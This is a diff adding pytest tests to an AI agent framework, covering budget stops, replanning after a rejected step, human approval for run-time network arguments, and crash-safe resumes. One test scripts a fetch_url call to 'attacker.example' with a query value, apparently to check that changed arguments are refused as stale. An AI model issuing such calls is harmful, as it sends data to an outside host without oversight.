@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from graph.api import arun
+from graph.api import aresume, arun
 from nodes.context import Context
 from nodes.plan_check import to_steps, validate_plan
 from nodes.schemas import StepSpec
@@ -220,7 +220,7 @@ async def test_an_unknown_answer_step_is_sent_back_for_repair(
 
     assert outcome.status == "done"
     repair = script.calls_for("reflect")[1][-1].text
-    assert "answer_step 'ghost' is not a finished step" in repair
+    assert "answer_step 'ghost' is not a new result shown in full" in repair
 
 
 def test_a_planned_call_needs_no_description_but_an_executor_step_does() -> None:
@@ -271,3 +271,131 @@ async def test_the_fill_call_offers_only_its_tool_and_forces_it(
     assert [t["function"]["name"] for t in fill["tools"]] == ["read_file"]
     assert fill["tool_choice"] == {"type": "function", "function": {"name": "read_file"}}
     assert json.dumps(fill).count("see b.txt") == 1
+
+
+async def test_results_are_judged_before_a_budget_stop(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    # s1 and s2 run together; s3 (after s1) would be next, but the tool-call limit is reached:
+    # the review still judges s1 and s2, and s1 meets the criterion, so the run is done.
+    context.max_tool_calls = 2
+    script.add("parse_goal", goal_reply("the files are listed"))
+    script.add(
+        "plan",
+        plan_reply(
+            step("s1", tool="list_files", args={}),
+            step("s2", tool="list_files", args={"path": "."}),
+            step("s3", tool="list_files", args={}, depends_on=["s1"]),
+        ),
+    )
+    script.add("reflect", {"passed": ["s1", "s2"], "criteria": [
+        {"id": "c1", "met": True, "evidence": "s1 listed them"}]})  # fmt: skip
+    script.add("finish", "listed")
+
+    outcome = await arun("list the files", context=context, db=db_path)
+
+    assert outcome.status == "done", outcome.stop_reason
+    assert {outcome.results[s].verdict for s in ("s1", "s2")} == {"pass"}
+    assert "s3" not in outcome.results
+
+
+async def test_a_rejected_step_replans_only_after_its_wave_mates_are_judged(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    (workspace / "notes.txt").write_text("a draft note")
+    edit = {"path": "notes.txt", "old_text": "draft", "new_text": "final"}
+    script.add("parse_goal", goal_reply("notes.txt is final"))
+    script.add(
+        "plan",
+        plan_reply(
+            step("s1", tool="edit_file", args=edit),  # needs approval: rejected below
+            step("s2", tool="list_files", args={}),
+            step("s3", tool="read_file", args={"path": "notes.txt"}, depends_on=["s2"]),
+        ),
+    )
+    paused = await arun("finalise notes.txt", context=context, db=db_path, thread_id="t")
+    ((interrupt_id, payload),) = paused.pending.items()
+    script.add("reflect", reflect_reply({"s2": True}))
+    script.add("plan", plan_reply(step("s4", tool="read_file", args={"path": "notes.txt"})))
+    script.add("reflect", reflect_reply({"s4": True}, {"c1": "s4: the user keeps the draft"}))
+    script.add("finish", "kept the draft")
+    answer = {"action": "reject", "step_id": "s1", "args_hash": payload["args_hash"],
+              "feedback": "keep it"}  # fmt: skip
+
+    outcome = await aresume("t", db=db_path, answers={interrupt_id: answer})
+
+    assert outcome.status == "done"
+    assert _roles(script)[2:] == ["reflect", "plan", "reflect", "finish"]
+    assert outcome.results["s2"].verdict == "pass"  # judged before the replan
+
+
+def test_network_args_chosen_at_run_time_need_approval() -> None:
+    from nodes.approval import approval_reason
+    from nodes.state import Step
+
+    context = Context()
+    planned = Step(id="a", description="d", expected="e", tool="fetch_url",
+                   args={"url": "https://example.org"}, risk="network")  # fmt: skip
+    filled = Step(id="b", description="d", expected="e", tool="fetch_url", risk="network")
+    assert approval_reason(planned, context, web_content_seen=False) is None
+    why = approval_reason(filled, context, web_content_seen=False)
+    assert why is not None and "args taken from earlier results" in why
+
+
+async def test_a_filled_call_that_needs_approval_shows_its_real_args(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    (workspace / "pointer.txt").write_text("fetch https://example.org/a")
+    script.add("parse_goal", goal_reply("the page is read"))
+    script.add(
+        "plan",
+        plan_reply(
+            step("s1", tool="read_file", args={"path": "pointer.txt"}),
+            step("s2", tool="fetch_url", fill_args=True, depends_on=["s1"], risk="network",
+                 description="fetch the URL s1 names"),
+        ),
+    )  # fmt: skip
+    script.add("execute", tool_call("fetch_url", {"url": "https://example.org/a"}))
+
+    paused = await arun("read the page", context=context, db=db_path, thread_id="t")
+
+    ((interrupt_id, payload),) = paused.pending.items()
+    assert payload["step_id"] == "s2" and payload["tool"] == "fetch_url"
+    assert payload["args"] == {"url": "https://example.org/a"}
+    assert "args taken from earlier results" in payload["why"]
+    # Resumed, the args are filled again; different ones do not match the answer and are
+    # asked about anew, so only a call the human saw can run.
+    script.add("execute", tool_call("fetch_url", {"url": "https://attacker.example/?k=1"}))
+    again = await aresume("t", db=db_path, answers={interrupt_id: {
+        "action": "reject", "step_id": "s2", "args_hash": payload["args_hash"]}})  # fmt: skip
+    ((_, second),) = again.pending.items()
+    assert second["args"] == {"url": "https://attacker.example/?k=1"}
+    assert "stale" in second.get("refused", "")
+
+
+async def test_a_resumed_filled_write_is_not_refused_for_the_file_it_wrote(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    # A crash after the write but before the checkpoint: the file exists, and the journal
+    # shows that this step's exact call started; resumed, the step is not refused.
+    from checkpoints.journal import Journal, idempotency_key
+
+    args = {"path": "out.txt", "content": "result"}
+    (workspace / "out.txt").write_text("result")
+    db_path.parent.mkdir(parents=True, exist_ok=True)
+    journal = Journal(db_path)
+    journal.start(idempotency_key("t", "s1", "write_file", args), thread_id="t", step_id="s1",
+                  tool="write_file", expected_digest=None)  # fmt: skip
+    journal.close()
+    script.add("parse_goal", goal_reply("out.txt is written"))
+    writer = step("s1", tool="write_file", fill_args=True, description="write the result",
+                  risk="writes_workspace")  # fmt: skip
+    script.add("plan", plan_reply(writer))
+    script.add("execute", tool_call("write_file", args))
+    script.add("reflect", reflect_reply({"s1": True}, {"c1": "s1 wrote out.txt"}))
+    script.add("finish", "written")
+
+    outcome = await arun("write out.txt", context=context, db=db_path, thread_id="t")
+
+    assert outcome.status == "done", outcome.results["s1"].output
+    assert (workspace / "out.txt").read_text() == "result"
